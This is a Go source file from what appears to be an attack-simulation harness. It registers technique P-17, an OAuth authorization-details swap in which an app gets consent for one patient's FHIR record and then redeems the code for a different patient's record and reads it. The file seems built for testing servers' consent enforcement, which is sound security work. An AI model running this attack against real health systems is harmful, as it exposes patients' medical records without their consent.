package attacker

import (
	"context"
	"fmt"
	"net/url"

	"thiefbox/sim/event"
)

var _ = register("P-17", Technique{
	Variant: "wider-details",
	Title:   "Consent to one record grows into another's",
	Story: "The thief's app asks for one patient's record and no scope that would open others, and gets a grant for that. When it redeems the " +
		"code it asks for another patient's record instead.",
	Reads: []string{"RFC 9396 s6.1, s12"},
	Has:   []event.Asset{event.OwnClient},
	Run: func(ctx context.Context, g Ground) error {
		a, err := ownApp(ctx, g)
		if err != nil {
			return err
		}
		z, err := a.authorize(ctx, "openid", g.Target().FHIRBase, func(form url.Values) {
			form.Set("authorization_details", patientRecord(g.Target().OwnPatient))
		})
		if err != nil {
			return err
		}
		page, err := a.g.Browser().Visit(ctx, z.url, z.redirect)
		if err != nil {
			return err
		}
		form := url.Values{
			"grant_type": {"authorization_code"}, "code": {answerOf(page.URL).Get("code")}, "redirect_uri": {z.redirect}, "code_verifier": {z.verifier},
			"resource": {g.Target().FHIRBase}, "authorization_details": {patientRecord(stranger(g))}, // another than was granted
		}
		if form.Get("code") == "" {
			return ErrStopped
		}
		t, err := a.token(ctx, form, nil)
		if err != nil {
			return err
		}
		_, err = a.read(ctx, record(g, stranger(g)), t)
		return err
	},
})

// patientRecord is an authorization detail for one patient's record.
func patientRecord(patient string) string {
	return fmt.Sprintf(`[{"type":"patient_record","identifier":%q,"actions":["read"]}]`, patient)
}
